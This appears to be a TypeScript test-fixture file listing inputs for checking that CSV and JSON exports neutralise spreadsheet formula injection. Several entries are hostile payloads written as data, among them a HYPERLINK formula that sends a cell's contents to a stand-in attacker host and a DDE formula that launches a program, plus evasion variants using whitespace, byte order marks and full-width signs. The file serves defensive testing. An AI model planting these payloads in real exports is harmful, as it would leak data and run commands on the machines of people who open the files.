import type { BadInput } from "./bad-input.ts";
import { shown } from "./text.ts";

/** A title of a window, exported as evidence. */
export type ExportRow = BadInput & { readonly cell: string };

function cell(name: string, text: string, expected = "The cell is text, with an apostrophe before it"): ExportRow {
  return { area: "CSV and JSON", name, input: shown(text), expected, cell: text };
}

const asItIs = "The cell is the text it is, and reads back";

export const csvAndJson: readonly ExportRow[] = [
  cell("a formula", "=1+1"),
  cell("a formula that fetches", '=HYPERLINK("https://evil.example?x="&A1)'),
  cell("a formula that runs a program", "=cmd|'/C calc'!A1"),
  cell("a plus sign", "+1+1"),
  cell("a minus sign", "-1+1"),
  cell("an at sign", "@SUM(A1:A9)"),
  cell("a tab before a formula", "\t=1+1"),
  cell("a carriage return before a formula", "\r=1+1"),
  cell("a line break before a formula", "\n=1+1"),
  cell("a space before a formula", " =1+1"),
  cell("a full-width equals sign", "＝1+1"),
  cell("a full-width plus, minus and at sign", "＋1－1＠x"),
  cell("a byte order mark before a formula", "\uFEFF=1+1"),
  cell("quotes and separators", 'a","b;c\td"', asItIs),
  cell("a line break inside", "a\r\nb,c", asItIs),
  cell("JSON's own signs", '"}],"x":[{"\\u0000\u2028', asItIs),
];
